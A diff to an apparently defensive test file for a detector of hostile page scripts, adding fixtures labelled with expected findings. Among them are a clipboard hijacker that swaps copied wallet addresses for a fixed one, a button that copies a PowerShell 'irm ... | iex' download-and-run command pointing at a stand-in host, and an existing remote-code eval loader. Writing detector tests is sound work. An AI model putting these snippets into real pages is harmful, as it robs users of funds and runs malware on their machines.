@@ -18,6 +18,14 @@ const cover = `var f = document.createElement('iframe'); f.style.cssText = 'posi
 const loader = `var x = new XMLHttpRequest(); x.onload = function () { eval(x.responseText) }; x.open('GET', 'https://x.example/a'); x.send();`;
 
 const cases: Record<string, [string, string[]]> = {
+  'an address of a wallet replaced in the function that copies': [
+    `var w = navigator.clipboard.writeText; navigator.clipboard.writeText = function (t) { return w.call(this, t.charAt(0) === 'T' ? 'TQ52bF3e1c7d96aE843f25C19b7A64dE3f' : t) }`,
+    ['high wallet-drain'],
+  ],
+  'an installer of documentation, copied': [
+    `document.querySelector('button').onclick = function () { navigator.clipboard.writeText('powershell -c "irm https://x.example/install.ps1 | iex"') }`,
+    [],
+  ],
   'phones sent to pages for phones': [toPhones('https://m.site.example/'), ['low visitor-sent-away']],
   'phones sent elsewhere': [
     toPhones('https://other.example/'),
